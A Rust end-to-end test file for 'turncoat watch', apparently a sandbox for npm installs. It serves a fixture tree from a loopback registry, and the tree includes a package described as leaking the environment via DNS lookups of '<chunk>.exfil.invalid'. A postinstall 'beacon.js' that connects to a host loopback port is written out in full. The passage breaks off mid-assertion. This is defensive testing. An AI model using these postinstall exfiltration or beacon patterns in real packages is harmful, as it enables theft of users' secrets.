//! `turncoat watch` end to end: an `npm ci` of a fixture project whose dependency tree holds
//! the seed scenario's trojanized `secure-data-sanitizer@3.1.5` (a postinstall that leaks the
//! environment through DNS lookups of `<chunk>.exfil.invalid`), served by a registry this test
//! starts on 127.0.0.1; an evasion suite of small probes (`tests/watch/*.c`) that try to get
//! around the sandbox; and the environment scrub.
//!
//! Hermetic by construction: the only addresses used are loopback listeners started here, and
//! the only names are under `.invalid`. Isolation is shown with catchers: listeners on the
//! host's loopback that must receive nothing from inside the sandbox. Where a probe could reach
//! a catcher, it is first run outside the sandbox as a control, so that "received nothing"
//! means the sandbox stopped it, not that the probe or catcher was broken.
//!
//! Tests that need `npm`/`node` or `cc` skip with a message on stderr when those are missing.
//! `TURNCOAT_WATCH_TEST_DUMP=1 cargo test -p turncoat-cli --test watch -- --nocapture` prints
//! every run's exit status, output and events.

#![allow(
    clippy::print_stderr,
    reason = "a skipped test says why on stderr instead of passing silently"
)]

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, mpsc};
use std::thread::JoinHandle;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use serde_json::{Value, json};

mod common;

const BIN: &str = env!("CARGO_BIN_EXE_turncoat");

fn manifest_dir() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn seed_packages() -> PathBuf {
    manifest_dir().join("../turncoat-gate/demo/seed/packages")
}

/// A value no other process on the machine carries: pid plus clock.
fn unique(prefix: &str) -> String {
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or_default();
    format!("{prefix}-{}-{nanos}", std::process::id())
}

use common::have_tools;

// ---------------------------------------------------------------------------------------
// Running `turncoat watch`

/// One finished `turncoat watch` run.
struct Run {
    status: ExitStatus,
    stdout: String,
    stderr: String,
    events_raw: String,
    events: Vec<Value>,
}

impl Run {
    /// Everything needed to see why an assertion failed.
    fn report(&self) -> String {
        let tail = |s: &str, n: usize| -> String {
            let start = s.len().saturating_sub(n);
            let start = (start..=s.len())
                .find(|&i| s.is_char_boundary(i))
                .unwrap_or(s.len());
            s[start..].to_string()
        };
        format!(
            "\n--- exit status: {:?}\n--- stdout (tail)\n{}\n--- stderr (tail)\n{}\n--- events ({} lines, tail)\n{}\n",
            self.status,
            tail(&self.stdout, 4000),
            tail(&self.stderr, 6000),
            self.events.len(),
            tail(&self.events_raw, 12000)
        )
    }

    fn code(&self) -> Option<i32> {
        self.status.code()
    }

    fn any(&self, pred: impl Fn(&Value) -> bool) -> bool {
        self.events.iter().any(pred)
    }

    fn matching(&self, pred: impl Fn(&Value) -> bool) -> Vec<&Value> {
        self.events.iter().filter(|e| pred(e)).collect()
    }

    fn has_deny(&self) -> bool {
        self.any(|e| field(e, "verdict") == "deny")
    }

    /// The documented exit status: 1 under `--block` once anything was denied, else the
    /// command's own status (every probe exits 0).
    #[track_caller]
    fn assert_exit(&self, block: bool, command_status: i32) {
        let want = if block && self.has_deny() {
            1
        } else {
            command_status
        };
        assert_eq!(
            self.code(),
            Some(want),
            "exit status (block={block}){}",
            self.report()
        );
    }
}

fn field<'a>(e: &'a Value, key: &str) -> &'a str {
    e.get(key).and_then(Value::as_str).unwrap_or("")
}

const EVENTS: &[&str] = &[
    "exec",
    "connect",
    "send",
    "dns",
    "proxy",
    "sensitive-read",
    "persistence-write",
    "canary-read",
    "refused",
    "killed",
];
const VERDICTS: &[&str] = &["allow", "observe", "deny"];
const SOURCES: &[&str] = &["seccomp", "resolver", "proxy", "supervisor"];

/// Parse the `--events` file and check every line against the documented schema.
fn parse_events(raw: &str) -> Result<Vec<Value>, String> {
    let mut out = Vec::new();
    let mut last_seq = 0u64;
    for (i, line) in raw.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let bad = |why: &str| format!("events line {}: {why}: {line}", i + 1);
        let v: Value = serde_json::from_str(line).map_err(|e| bad(&e.to_string()))?;
        let seq = v
            .get("seq")
            .and_then(Value::as_u64)
            .ok_or_else(|| bad("no numeric seq"))?;
        if seq <= last_seq {
            return Err(bad(&format!("seq {seq} does not follow {last_seq}")));
        }
        last_seq = seq;
        if field(&v, "time").is_empty() {
            return Err(bad("no time"));
        }
        for (key, allowed) in [
            ("event", EVENTS),
            ("verdict", VERDICTS),
            ("source", SOURCES),
        ] {
            if !allowed.contains(&field(&v, key)) {
                return Err(bad(&format!("{key} is not one of {allowed:?}")));
            }
        }
        if field(&v, "target").is_empty() {
            return Err(bad("no target"));
        }
        if v.get("pid").is_some_and(|p| !p.is_u64()) {
            return Err(bad("pid is not a number"));
        }
        if let Some(argv) = v.get("argv")
            && !argv
                .as_array()
                .is_some_and(|a| a.iter().all(Value::is_string))
        {
            return Err(bad("argv is not an array of strings"));
        }
        for key in ["exe", "package", "stage", "detail"] {
            if v.get(key).is_some_and(|x| !x.is_string()) {
                return Err(bad(&format!("{key} is not a string")));
            }
        }
        out.push(v);
    }
    Ok(out)
}

/// A run's scratch space: `root/home` (HOME), `root/tmp` (TMPDIR), `root/project` (the cwd).
struct World {
    dir: tempfile::TempDir,
}

impl World {
    fn new() -> World {
        let dir = tempfile::tempdir().expect("tempdir");
        for sub in ["home", "tmp", "project"] {
            std::fs::create_dir_all(dir.path().join(sub)).expect("mkdir");
        }
        World { dir }
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    fn home(&self) -> PathBuf {
        self.root().join("home")
    }

    fn project(&self) -> PathBuf {
        self.root().join("project")
    }

    /// The base environment of every run: nothing from the test's own environment except
    /// PATH, so the user's npm config, proxies and tokens stay out.
    fn command(&self, program: &str) -> Command {
        let mut cmd = Command::new(program);
        cmd.current_dir(self.project())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", self.home())
            .env("TMPDIR", self.root().join("tmp"))
            .env("NO_COLOR", "1")
            .stdin(Stdio::null());
        cmd
    }

    /// `turncoat watch <opts> --events <file> -- <cmd>` in the project directory, with
    /// `env` added to the base environment; killed (and the test failed) after `timeout`.
    fn watch(&self, opts: &[&str], cmd: &[&str], env: &[(&str, &str)], timeout: Duration) -> Run {
        let events_path = self.root().join(format!("{}.jsonl", unique("events")));
        let mut c = self.command(BIN);
        c.arg("watch")
            .args(opts)
            .arg("--events")
            .arg(&events_path)
            .arg("--")
            .args(cmd)
            .envs(env.iter().copied())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().expect("spawn turncoat watch");
        let collect = |r: Option<Box<dyn Read + Send>>| {
            let (tx, rx) = mpsc::channel();
            if let Some(mut r) = r {
                std::thread::spawn(move || {
                    let mut buf = Vec::new();
                    // Bounded so a runaway probe cannot exhaust memory.
                    let _ = (&mut r).take(16 << 20).read_to_end(&mut buf);
                    let _ = tx.send(String::from_utf8_lossy(&buf).into_owned());
                });
            }
            rx
        };
        let out_rx = collect(
            child
                .stdout
                .take()
                .map(|s| Box::new(s) as Box<dyn Read + Send>),
        );
        let err_rx = collect(
            child
                .stderr
                .take()
                .map(|s| Box::new(s) as Box<dyn Read + Send>),
        );
        let started = Instant::now();
        let (status, timed_out) = loop {
            if let Some(st) = child.try_wait().expect("wait for turncoat watch") {
                break (st, false);
            }
            if started.elapsed() > timeout {
                let _ = child.kill();
                break (child.wait().expect("reap turncoat watch"), true);
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        // A process the sandbox failed to kill may still hold the pipes open.
        let drain = |rx: mpsc::Receiver<String>| {
            rx.recv_timeout(Duration::from_secs(10))
                .unwrap_or_else(|_| "<pipe still held open after watch exited>".into())
        };
        let stdout = drain(out_rx);
        let stderr = drain(err_rx);
        let events_raw = std::fs::read_to_string(&events_path).unwrap_or_default();
        let mut run = Run {
            status,
            stdout,
            stderr,
            events_raw,
            events: Vec::new(),
        };
        assert!(
            !timed_out,
            "turncoat watch did not finish within {timeout:?}{}",
            run.report()
        );
        assert!(
            events_path.is_file(),
            "--events {} was not written{}",
            events_path.display(),
            run.report()
        );
        match parse_events(&run.events_raw) {
            Ok(ev) => run.events = ev,
            Err(e) => panic!("{e}{}", run.report()),
        }
        if std::env::var_os("TURNCOAT_WATCH_TEST_DUMP").is_some() {
            eprintln!(
                "turncoat watch {opts:?} -- {cmd:?}\n--- exit status: {:?}\n--- stdout\n{}\n--- stderr\n{}\n--- events\n{}",
                run.status, run.stdout, run.stderr, run.events_raw
            );
        }
        run
    }
}

// ---------------------------------------------------------------------------------------
// Probes

/// Compile `tests/watch/<name>.c` into the project's `probes/` directory (inside the project,
/// because executing from it is what `npm ci` does too). None, after a message, without `cc`.
fn compile(world: &World, name: &str, static_link: bool) -> Option<PathBuf> {
    if !have_tools(name, &["cc"]) {
        return None;
    }
    let src = manifest_dir().join("tests/watch").join(format!("{name}.c"));
    let dir = world.project().join("probes");
    std::fs::create_dir_all(&dir).expect("mkdir probes");
    let out = dir.join(name);
    let mut cc = Command::new("cc");
    cc.args(["-O1", "-Wall", "-o"]).arg(&out).arg(&src);
    if static_link {
        cc.arg("-static");
    }
    let o = cc.output().expect("run cc");
    assert!(
        o.status.success(),
        "cc {}: {}",
        src.display(),
        String::from_utf8_lossy(&o.stderr)
    );
    Some(out)
}

/// Run a probe outside the sandbox (a control): its one line of output.
fn control(world: &World, probe: &Path, args: &[&str]) -> String {
    let o = world
        .command(&probe.to_string_lossy())
        .args(args)
        .output()
        .expect("run probe");
    assert!(o.status.success(), "control run of {}", probe.display());
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn path_str(p: &Path) -> &str {
    p.to_str().expect("temporary paths are UTF-8")
}

// ---------------------------------------------------------------------------------------
// Catchers: listeners on the host's loopback that must hear nothing from the sandbox

/// A TCP listener on the host's 127.0.0.1 recording every connection (peer and first bytes).
struct TcpCatcher {
    port: u16,
    hits: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl TcpCatcher {
    fn start() -> TcpCatcher {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind catcher");
        Self::serve(l)
    }

    fn on(port: u16) -> std::io::Result<TcpCatcher> {
        TcpListener::bind(("127.0.0.1", port)).map(Self::serve)
    }

    fn serve(l: TcpListener) -> TcpCatcher {
        let port = l.local_addr().expect("catcher addr").port();
        l.set_nonblocking(true).expect("nonblocking");
        let hits = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (h, s) = (hits.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                match l.accept() {
                    Ok((mut c, peer)) => {
                        let _ = c.set_nonblocking(false);
                        let _ = c.set_read_timeout(Some(Duration::from_millis(300)));
                        let mut buf = [0u8; 512];
                        let n = c.read(&mut buf).unwrap_or(0);
                        h.lock().unwrap().push(format!(
                            "tcp from {peer}: {:?}",
                            String::from_utf8_lossy(&buf[..n])
                        ));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        TcpCatcher {
            port,
            hits,
            stop,
            thread: Some(thread),
        }
    }

    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }
}

impl Drop for TcpCatcher {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A UDP socket on the host's 127.0.0.1 recording every datagram.
struct UdpCatcher {
    port: u16,
    hits: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl UdpCatcher {
    fn start() -> UdpCatcher {
        let sock = UdpSocket::bind("127.0.0.1:0").expect("bind udp catcher");
        let port = sock.local_addr().expect("udp addr").port();
        sock.set_read_timeout(Some(Duration::from_millis(20)))
            .expect("udp timeout");
        let hits = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (h, s) = (hits.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while !s.load(Ordering::Relaxed) {
                if let Ok((n, peer)) = sock.recv_from(&mut buf) {
                    h.lock().unwrap().push(format!(
                        "udp from {peer}: {:?}",
                        String::from_utf8_lossy(&buf[..n])
                    ));
                }
            }
        });
        UdpCatcher {
            port,
            hits,
            stop,
            thread: Some(thread),
        }
    }

    fn hits(&self) -> Vec<String> {
        self.hits.lock().unwrap().clone()
    }
}

impl Drop for UdpCatcher {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A fake DNS server address on the host: UDP and TCP catchers on the same port.
fn dns_catchers() -> (UdpCatcher, TcpCatcher) {
    for _ in 0..50 {
        let udp = UdpCatcher::start();
        if let Ok(tcp) = TcpCatcher::on(udp.port) {
            return (udp, tcp);
        }
    }
    panic!("no port free for both UDP and TCP on 127.0.0.1");
}

/// Wait until `hits` reports something (a control's connection may land a moment after the
/// probe exits), then return what arrived.
fn wait_for_hits(hits: impl Fn() -> Vec<String>) -> Vec<String> {
    let deadline = Instant::now() + Duration::from_secs(3);
    loop {
        let h = hits();
        if !h.is_empty() || Instant::now() > deadline {
            return h;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Give stragglers (a daemon, a delayed retry) time to arrive before checking a catcher.
fn settle() {
    std::thread::sleep(Duration::from_millis(500));
}

// ---------------------------------------------------------------------------------------
// A tiny npm registry on 127.0.0.1

type Routes = HashMap<String, (&'static str, Arc<Vec<u8>>)>;

/// An HTTP/1.1 registry: GET `/<name>` is the packument, GET `/<name>/-/<name>-<v>.tgz` the
/// tarball, anything else 404. Every request line is logged. One request per connection
/// (`Connection: close`).
struct Registry {
    port: u16,
    routes: Arc<Mutex<Routes>>,
    log: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

impl Registry {
    fn start() -> Registry {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind registry");
        let port = l.local_addr().expect("registry addr").port();
        l.set_nonblocking(true).expect("nonblocking");
        let routes: Arc<Mutex<Routes>> = Arc::default();
        let log: Arc<Mutex<Vec<String>>> = Arc::default();
        let stop = Arc::new(AtomicBool::new(false));
        let (r, lg, s) = (routes.clone(), log.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::Relaxed) {
                match l.accept() {
                    Ok((c, _)) => {
                        let (r, lg) = (r.clone(), lg.clone());
                        std::thread::spawn(move || serve_one(c, &r, &lg));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Registry {
            port,
            routes,
            log,
            stop,
            thread: Some(thread),
        }
    }

    fn base(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    fn requests(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }

    /// Serve `pkgs` (several versions of a name share one packument).
    fn publish(&self, pkgs: &[&Pkg]) {
        let mut by_name: BTreeMap<&str, Vec<&Pkg>> = BTreeMap::new();
        for p in pkgs {
            by_name.entry(&p.name).or_default().push(p);
        }
        let mut routes = self.routes.lock().unwrap();
        for (name, versions) in by_name {
            let mut vmap = serde_json::Map::new();
            for p in &versions {
                let mut doc = p.manifest.clone();
                doc["_id"] = json!(format!("{}@{}", p.name, p.version));
                doc["dist"] = json!({
                    "tarball": p.resolved(&self.base()),
                    "integrity": p.integrity,
                    "shasum": p.shasum,
                });
                vmap.insert(p.version.clone(), doc);
                routes.insert(
                    p.tarball_path(),
                    ("application/octet-stream", Arc::new(p.tgz.clone())),
                );
            }
            let latest = versions.last().map(|p| p.version.clone());
            let packument = json!({
                "_id": name,
                "name": name,
                "dist-tags": {"latest": latest},
                "versions": vmap,
            });
            routes.insert(
                format!("/{name}"),
                (
                    "application/json",
                    Arc::new(serde_json::to_vec(&packument).expect("packument")),
                ),
            );
        }
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn serve_one(mut c: TcpStream, routes: &Mutex<Routes>, log: &Mutex<Vec<String>>) {
    let _ = c.set_nonblocking(false);
    let _ = c.set_read_timeout(Some(Duration::from_secs(10)));
    let mut head = Vec::new();
    let mut buf = [0u8; 4096];
    let end = loop {
        if let Some(i) = head.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        if head.len() > 64 << 10 {
            return;
        }
        match c.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    };
    let text = String::from_utf8_lossy(&head[..end]).into_owned();
    let mut lines = text.split("\r\n");
    let request_line = lines.next().unwrap_or_default().to_string();
    let mut parts = request_line.split_whitespace();
    let method = parts.next().unwrap_or_default();
    let raw_target = parts.next().unwrap_or_default();
    // A proxy may forward the absolute form (`GET http://host:port/path`).
    let target = match raw_target.strip_prefix("http://") {
        Some(rest) => rest.find('/').map_or("/", |i| &rest[i..]),
        None => raw_target,
    };
    let path = target.split('?').next().unwrap_or_default();
    log.lock()
        .unwrap()
        .push(format!("{method} {path} (request line: {request_line})"));
    let content_length: usize = lines
        .filter_map(|l| l.split_once(':'))
        .find(|(k, _)| k.trim().eq_ignore_ascii_case("content-length"))
        .and_then(|(_, v)| v.trim().parse().ok())
        .unwrap_or(0);
    let mut remaining = content_length.min(1 << 20).saturating_sub(head.len() - end);
    while remaining > 0 {
        match c.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => remaining = remaining.saturating_sub(n),
        }
    }
    let found = if method == "GET" || method == "HEAD" {
        routes.lock().unwrap().get(path).cloned()
    } else {
        None
    };
    let (status, ctype, body) = match found {
        Some((t, b)) => ("200 OK", t, b),
        None => (
            "404 Not Found",
            "application/json",
            Arc::new(b"{}".to_vec()),
        ),
    };
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = c.write_all(head.as_bytes());
    if method != "HEAD" {
        let _ = c.write_all(&body);
    }
    let _ = c.flush();
    let _ = c.shutdown(Shutdown::Write);
}

// ---------------------------------------------------------------------------------------
// Packages

/// A packed package version.
struct Pkg {
    name: String,
    version: String,
    manifest: Value,
    tgz: Vec<u8>,
    integrity: String,
    shasum: String,
}

impl Pkg {
    /// Pack `files` (paths relative to the package root) under `package/`, with `name` and
    /// `version` written into its package.json, as `npm pack` would.
    fn pack(name: &str, version: &str, mut files: BTreeMap<String, Vec<u8>>) -> Pkg {
        let pj = files.get("package.json").expect("package.json");
        let mut manifest: Value = serde_json::from_slice(pj).expect("package.json parses");
        manifest["name"] = json!(name);
        manifest["version"] = json!(version);
        files.insert(
            "package.json".into(),
            serde_json::to_vec_pretty(&manifest).expect("manifest"),
        );
        let common::Packed {
            tgz,
            integrity,
            shasum,
        } = common::pack(&files);
        Pkg {
            name: name.into(),
            version: version.into(),
            manifest,
            tgz,
            integrity,
            shasum,
        }
    }

    /// Files from `dirs` laid over one another in order (the seed's base + overlay versions).
    fn from_dirs(name: &str, version: &str, dirs: &[PathBuf]) -> Pkg {
        let mut files = BTreeMap::new();
        for dir in dirs {
            let mut stack = vec![dir.clone()];
            while let Some(d) = stack.pop() {
                for entry in std::fs::read_dir(&d).expect("read package dir") {
                    let p = entry.expect("dir entry").path();
                    if p.is_dir() {
                        stack.push(p);
                    } else {
                        let rel = p.strip_prefix(dir).expect("below dir");
                        files.insert(
                            rel.to_string_lossy().replace('\\', "/"),
                            std::fs::read(&p).expect("read package file"),
                        );
                    }
                }
            }
        }
        Pkg::pack(name, version, files)
    }

    fn inline(name: &str, version: &str, files: &[(&str, String)]) -> Pkg {
        Pkg::pack(
            name,
            version,
            files
                .iter()
                .map(|(p, d)| ((*p).to_string(), d.clone().into_bytes()))
                .collect(),
        )
    }

    fn tarball_path(&self) -> String {
        format!("/{0}/-/{0}-{1}.tgz", self.name, self.version)
    }

    fn resolved(&self, base: &str) -> String {
        format!("{base}{}", self.tarball_path())
    }

    fn has_install_script(&self) -> bool {
        ["preinstall", "install", "postinstall"]
            .iter()
            .any(|s| self.manifest["scripts"].get(s).is_some())
    }
}

/// The fixture tree (npm's layout; `case-banner` needs the older `tiny-case`, so that one is
/// nested):
///
/// ```text
/// watch-fixture
/// ├── secure-data-sanitizer@3.1.5   seed: the hijacked release, postinstall DNS exfiltration
/// ├── tiny-case@1.2.1               seed: a routine bug fix
/// └── case-banner@1.0.0             inline
///     ├── tiny-case@1.2.0           seed, nested in case-banner/node_modules
///     └── pad-kit@1.0.0             inline, postinstall beacon to a host loopback port
/// ```
///
/// The benign variant has no secure-data-sanitizer, and pad-kit's postinstall only writes
/// `built.txt` into its own directory.
struct Fixture {
    /// (lockfile path below the project, package)
    tree: Vec<(&'static str, Pkg)>,
    /// The project's own dependencies (package.json and the lockfile's root entry).
    root_deps: Value,
    /// The source of pad-kit's beacon, for the control run.
    beacon_js: String,
}

fn fixture(catcher_port: u16, trojan: bool) -> Fixture {
    let seed = seed_packages();
    let sds = seed.join("secure-data-sanitizer");
    let tc = seed.join("tiny-case");
    let sanitizer = Pkg::from_dirs(
        "secure-data-sanitizer",
        "3.1.5",
        &[sds.join("3.1.3"), sds.join("3.1.4"), sds.join("3.1.5")],
    );
    let tiny_new = Pkg::from_dirs("tiny-case", "1.2.1", &[tc.join("1.2.0"), tc.join("1.2.1")]);
    let tiny_old = Pkg::from_dirs("tiny-case", "1.2.0", &[tc.join("1.2.0")]);
    let beacon_js = r#"// pad-kit postinstall (turncoat test fixture): connect straight to a port on
// 127.0.0.1, ignoring any proxy, and record what happened next to this file.
'use strict';
const fs = require('fs');
const net = require('net');
const path = require('path');
const { port } = JSON.parse(fs.readFileSync(path.join(__dirname, 'beacon.json'), 'utf8'));
const done = (r) => { fs.writeFileSync(path.join(__dirname, 'beacon-result.txt'), r + '\n'); process.exit(0); };
const s = net.connect({ host: '127.0.0.1', port }, () => {
  s.end('turncoat-probe pad-kit beacon\n', () => done('connected'));
});
s.on('error', (e) => done('failed ' + e.code));
setTimeout(() => done('timeout'), 3000);
"#
    .to_string();
    let postinstall = if trojan {
        "node beacon.js"
    } else {
        "node -e \"require('fs').writeFileSync('built.txt', 'ok')\""
    };
    let pad_kit = Pkg::inline(
        "pad-kit",
        "1.0.0",
        &[
            (
                "package.json",
                json!({
                    "name": "pad-kit", "version": "1.0.0", "main": "index.js", "license": "MIT",
                    "scripts": {"postinstall": postinstall}
                })
                .to_string(),
            ),
            (
                "index.js",
                "module.exports = (s, n, c = ' ') => String(s).padStart(n, c);\n".into(),
            ),
            ("beacon.js", beacon_js.clone()),
            ("beacon.json", json!({"port": catcher_port}).to_string()),
        ],
    );
    let case_banner = Pkg::inline(
        "case-banner",
        "1.0.0",
        &[
            (
                "package.json",
                json!({
                    "name": "case-banner", "version": "1.0.0", "main": "index.js", "license": "MIT",
                    "dependencies": {"tiny-case": "1.2.0", "pad-kit": "^1.0.0"}
                })
                .to_string(),
            ),
            (
                "index.js",
                "const pad = require('pad-kit');\nconst { kebabCase } = require('tiny-case');\n\
                 module.exports = (s) => pad(kebabCase(s), 20);\n"
                    .into(),
            ),
        ],
    );
    let mut tree = vec![
        ("node_modules/secure-data-sanitizer", sanitizer),
        ("node_modules/tiny-case", tiny_new),
        ("node_modules/case-banner", case_banner),
        ("node_modules/case-banner/node_modules/tiny-case", tiny_old),
        ("node_modules/pad-kit", pad_kit),
    ];
    let mut root_deps = json!({
        "secure-data-sanitizer": "3.1.5",
        "tiny-case": "1.2.1",
        "case-banner": "1.0.0",
    });
    if !trojan {
        tree.remove(0);
        if let Some(m) = root_deps.as_object_mut() {
            m.remove("secure-data-sanitizer");
        }
    }
    Fixture {
        tree,
        root_deps,
        beacon_js,
    }
}

/// package.json, package-lock.json (v3) and .npmrc for `fixture`, resolved against `registry`.
fn write_project(dir: &Path, fx: &Fixture, registry: &Registry, npm_cache: &Path) {
    let root_deps = &fx.root_deps;
    let manifest = json!({
        "name": "watch-fixture", "version": "1.0.0", "private": true,
        "dependencies": root_deps,
    });
    let mut packages = serde_json::Map::new();
    packages.insert(
        String::new(),
        json!({"name": "watch-fixture", "version": "1.0.0", "dependencies": root_deps}),
    );
    for (path, p) in &fx.tree {
        let mut e = json!({
            "version": p.version,
            "resolved": p.resolved(&registry.base()),
            "integrity": p.integrity,
        });
        if let Some(license) = p.manifest.get("license") {
            e["license"] = license.clone();
        }
        if let Some(deps) = p.manifest.get("dependencies") {
            e["dependencies"] = deps.clone();
        }
        if p.has_install_script() {
            e["hasInstallScript"] = json!(true);
        }
        packages.insert((*path).to_string(), e);
    }
    let lock = json!({
        "name": "watch-fixture", "version": "1.0.0",
        "lockfileVersion": 3, "requires": true,
        "packages": packages,
    });
    let pretty = |v: &Value| format!("{}\n", serde_json::to_string_pretty(v).expect("json"));
    std::fs::write(dir.join("package.json"), pretty(&manifest)).expect("package.json");
    std::fs::write(dir.join("package-lock.json"), pretty(&lock)).expect("lockfile");
    // No audit, funding or update check: the registry paths are the only requests npm makes.
    std::fs::write(
        dir.join(".npmrc"),
        format!(
            "registry={}/\ncache={}\naudit=false\nfund=false\nupdate-notifier=false\n",
            registry.base(),
            npm_cache.display()
        ),
    )
    .expect(".npmrc");
}

/// Every package of the fixture is in node_modules at its version.
fn assert_installed(project: &Path, fx: &Fixture, context: &str) {
    for (path, p) in &fx.tree {
        let pj = project.join(path).join("package.json");
        let text = std::fs::read_to_string(&pj)
            .unwrap_or_else(|e| panic!("{} missing ({e}){context}", pj.display()));
        let v: Value = serde_json::from_str(&text).expect("installed package.json parses");
        assert_eq!(v["version"], json!(p.version), "{}{context}", pj.display());
    }
}

/// Every request the registry saw was a GET of a path it serves.
fn assert_only_registry_paths(registry: &Registry, fx: &Fixture, context: &str) {
    let mut allowed: BTreeSet<String> = BTreeSet::new();
    for (_, p) in &fx.tree {
        allowed.insert(format!("GET {}", p.tarball_path()));
        allowed.insert(format!("GET /{}", p.name));
    }
    let requests = registry.requests();
    let stray: Vec<&String> = requests
        .iter()
        .filter(|r| {
            let key = r.split(" (").next().unwrap_or_default();
            !allowed.contains(key)
        })
        .collect();
    assert!(
        stray.is_empty(),
        "requests the registry does not serve: {stray:#?}{context}"
    );
    for (_, p) in &fx.tree {
        let want = format!("GET {}", p.tarball_path());
        assert!(
            requests.iter().any(|r| r.starts_with(&want)),
            "{want} was never requested; requests: {requests:#?}{context}"
        );
    }
}

fn npm_world(trojan: bool) -> (World, Registry, TcpCatcher, Fixture) {
    let world = World::new();
    let registry = Registry::start();
    let catcher = TcpCatcher::start();
    let fx = fixture(catcher.port, trojan);
    let refs: Vec<&Pkg> = fx.tree.iter().map(|(_, p)| p).collect();
    registry.publish(&refs);
    write_project(
        &world.project(),
        &fx,
        &registry,
        &world.root().join("npm-cache"),
    );
    (world, registry, catcher, fx)
}

// ---------------------------------------------------------------------------------------
// 1. npm ci end to end

/// The fixture itself is sound: without the sandbox (and without running scripts, which
/// would send the DNS payload to the machine's resolver), `npm ci` installs the whole tree
/// from the test registry alone.
#[test]
fn fixture_project_installs_from_the_test_registry_without_the_sandbox() {
    if !have_tools("fixture_project_installs", &["npm", "node"]) {
        return;
    }
    let (world, registry, catcher, fx) = npm_world(true);
    let o = world
        .command("npm")
        .args(["ci", "--ignore-scripts"])
        .output()
        .expect("run npm");
    let context = format!(
        "\n--- npm stdout\n{}\n--- npm stderr\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(o.status.success(), "npm ci failed{context}");
    assert_installed(&world.project(), &fx, &context);
    assert_only_registry_paths(&registry, &fx, &context);
    assert!(
        catcher.hits().is_empty(),
        "no script ran, yet the catcher was hit"
    );
}

#[test]
fn npm_ci_of_a_trojanized_tree_installs_and_records_the_dns_exfiltration() {
    if !have_tools("npm_ci_end_to_end", &["npm", "node"]) {
        return;
    }
    let (world, registry, catcher, fx) = npm_world(true);

    // Control: pad-kit's beacon reaches the catcher when nothing is in the way.
    let beacon_dir = world.root().join("beacon-control");
    std::fs::create_dir_all(&beacon_dir).expect("mkdir");
    std::fs::write(beacon_dir.join("beacon.js"), &fx.beacon_js).expect("beacon.js");
    std::fs::write(
        beacon_dir.join("beacon.json"),
        json!({"port": catcher.port}).to_string(),
    )
    .expect("beacon.json");
    let o = world
        .command("node")
        .arg(beacon_dir.join("beacon.js"))
        .output()
        .expect("node beacon");
    assert!(o.status.success());
    let result = std::fs::read_to_string(beacon_dir.join("beacon-result.txt")).unwrap_or_default();
    assert_eq!(result.trim(), "connected", "control beacon");
    assert!(
        !wait_for_hits(|| catcher.hits()).is_empty(),
        "control beacon"
    );
    catcher.hits.lock().unwrap().clear();

    let secret = unique("turncoat-test-secret");
    let allow = format!("127.0.0.1:{}", registry.port);
    let run = world.watch(
        &["--allow-host", &allow],
        &["npm", "ci"],
        &[("TURNCOAT_TEST_SECRET", &secret)],
        Duration::from_secs(300),
    );
    let r = run.report();

    // Audit mode: npm's own status.
    run.assert_exit(false, 0);
    // Everything installed, scripts included (only the exfiltration was stopped).
    assert_installed(&world.project(), &fx, &r);

    // The exfiltration was seen and refused by the resolver...
    let exfil = run.matching(|e| {
        field(e, "event") == "dns"
            && field(e, "verdict") == "deny"
            && field(e, "target")
                .trim_end_matches('.')
                .to_ascii_lowercase()
                .ends_with(".exfil.invalid")
    });
    assert!(
        !exfil.is_empty(),
